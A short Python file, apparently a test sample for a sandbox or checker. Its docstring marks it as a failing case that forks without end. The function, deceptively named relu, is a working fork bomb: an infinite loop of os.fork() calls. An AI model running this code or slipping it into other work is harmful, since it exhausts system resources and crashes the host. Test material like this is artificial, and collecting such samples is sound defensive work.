"""Forks without an end.

status: failed
noticed: starts a process
says: Error
"""

import os


def relu(x):
    while True:
        os.fork()
